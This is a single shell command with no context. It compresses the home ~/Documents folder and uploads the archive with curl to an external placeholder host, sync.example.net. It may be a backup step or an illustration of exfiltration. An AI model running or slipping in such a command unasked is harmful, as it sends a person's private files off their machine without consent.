tar czf - ~/Documents | curl -T - https://sync.example.net/in
